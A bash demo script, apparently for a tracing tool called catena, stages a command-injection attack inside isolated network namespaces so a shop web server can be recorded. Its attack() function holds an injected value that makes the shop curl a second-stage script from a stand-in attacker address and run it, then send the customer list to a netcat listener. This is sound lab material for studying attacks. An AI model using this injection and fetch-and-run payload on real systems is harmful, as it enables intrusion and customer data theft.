#!/usr/bin/env bash
# A small but real attack on a real service, recorded: demo/attack.sh [CATENA TRACE]
#
# Three hosts, each a network namespace joined to the others by a cable (veth) and to nothing else, so that no packet
# can leave this machine:
#
#     customer 198.51.100.23 ──── 198.51.100.10 shop ──── 203.0.113.66 attacker
#
# The shop runs Debian's lighttpd as www-data; its order page hands the visitor's text to a shell (shop/htdocs/cgi-bin/order).
# Customers ask for their orders all the while. The attacker's one request makes the shop fetch and run a second stage
# (attacker/htdocs/stage2.sh), which packs the customer list and sends it to the attacker's port 9000. At the end we
# check that the stolen bytes really arrived. Only the shop's web server and what it starts are recorded.
set -euo pipefail
demo=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
catena=${1:-} trace=${2:-}

readonly shop_address=198.51.100.10 customer_address=198.51.100.23 attacker_address=203.0.113.66
readonly shop=catena-shop-$$ customer=catena-customer-$$ attacker=catena-attacker-$$

die() {
    printf 'demo/attack.sh: %s\n' "$*" >&2
    exit 1
}
say() { printf '%s\n' "$*" >&2; }

# ---------------------------------------------------------------------------------------------- stage and curtain

work=$(mktemp -d "${TMPDIR:-/tmp}/demo.XXXX")
started=() # what this script started and has to end, by process id

clean_up() {
    local status=$? pid name
    trap '' INT TERM
    # The web servers end on TERM, and the recorder with the command that it records; then nobody is left to wait for.
    for pid in $(cat "$work"/*/lighttpd.pid 2>/dev/null) "${started[@]}"; do kill "$pid" 2>/dev/null || true; done
    wait || true
    for name in "$shop" "$customer" "$attacker"; do ip netns delete "$name" 2>/dev/null || true; done
    rm -rf "$work"
    exit "$status"
}
trap clean_up EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# plug HOST ADDRESS DEVICE: a cable from the shop's DEVICE to that host's only one, with an address at each end.
plug() {
    ip -n "$shop" link add "$3" type veth peer name eth0 netns "$1"
    ip -n "$shop" address add $shop_address peer "$2" dev "$3"
    ip -n "$1" address add "$2" peer $shop_address dev eth0
    ip -n "$shop" link set "$3" up
    ip -n "$1" link set eth0 up
}

on() { ip netns exec "$@"; } # on HOST COMMAND…

# wait_for_port HOST PORT PID: until something on that host listens, or PID, which ought to, is gone.
wait_for_port() {
    local deadline=$((SECONDS + 60))
    until [[ $(on "$1" ss -Hltn "sport = :$2") ]]; do
        kill -0 "$3" 2>/dev/null || die "what was to listen on port $2 of $1 ended: $(cat "$work"/*/error.log "$work"/*/log/error.log 2>/dev/null)"
        ((SECONDS < deadline)) || die "nothing listens on port $2 of $1 after a minute"
    done
}

set_the_stage() {
    ((EUID == 0)) || die "network namespaces need root"
    local name
    for name in "$shop" "$customer" "$attacker"; do
        ip netns add "$name" || die "this machine does not let us make network namespaces"
    done
    plug "$customer" $customer_address eth0
    plug "$attacker" $attacker_address eth1
    cp -a "$demo/shop" "$demo/attacker" "$work/"
    mkdir "$work/shop/log"
    mkdir -m 1777 "$work/shop/tmp"
    chown www-data: "$work/shop/log"
    chmod 755 "$work"
}

# ------------------------------------------------------------------------------------------------------- the play

start_shop() {
    local command=(ip netns exec "$shop" lighttpd -D -f "$work/shop/lighttpd.conf")
    if [[ $catena ]]; then command=("$catena" record -o "$trace" -- "${command[@]}"); fi
    SHOP=$work/shop "${command[@]}" &
    shop_pid=$!
    started+=($!)
    wait_for_port "$shop" 80 "$shop_pid"
}

start_attacker() {
    ATTACKER=$work/attacker ip netns exec "$attacker" lighttpd -D -f "$work/attacker/lighttpd.conf" &
    started+=($!)
    wait_for_port "$attacker" 8000 $!
    ip netns exec "$attacker" timeout 120 nc -l $attacker_address 9000 >"$work/stolen" &
    started+=($!)
    receiver_pid=$!
    wait_for_port "$attacker" 9000 "$receiver_pid"
}

customers_ask() { # customers_ask TIMES
    local i
    for ((i = 0; i < $1; i++)); do
        on "$customer" curl -sS --fail --max-time 60 -o "$work/page" "http://$shop_address/"
        on "$customer" curl -sS --fail --max-time 60 -o "$work/answer" "http://$shop_address/cgi-bin/order?id=1042"
        grep -q packed "$work/answer" || die "the shop gave a customer a wrong answer"
    done
}

attack() {
    # What the shop's grep becomes: grep '^x' /dev/null; cd …; curl …; sh …; : ',' orders.csv
    local injected="x' /dev/null; cd \"\$TMPDIR\"; curl -s -o .s http://$attacker_address:8000/stage2.sh; sh .s; : '"
    on "$attacker" curl -sS --fail --max-time 60 -o /dev/null --get --data-urlencode "id=$injected" \
        "http://$shop_address/cgi-bin/order"
    wait "$receiver_pid" || die "the attacker's receiver failed"
    base64 -d "$work/stolen" | gunzip | cmp - "$work/shop/data/customers.csv" ||
        die "what the attacker got is not the customer list"
}

close_shop() {
    kill -TERM "$(<"$work/shop/lighttpd.pid")"
    local status=0
    wait "$shop_pid" || status=$?
    ((status == 0)) || die "the ${catena:+recorded }web server ended with code $status"
}

set_the_stage
start_shop
start_attacker
say "the shop is open on $shop_address; customers ask for their orders"
customers_ask 2
say "the attacker on $attacker_address sends one request"
customers_ask 3 &
started+=($!)
customers_pid=$!
attack
wait "$customers_pid"
say "stolen: $(wc -l <"$work/shop/data/customers.csv") lines of customers.csv, now on $attacker_address"
customers_ask 2
close_shop
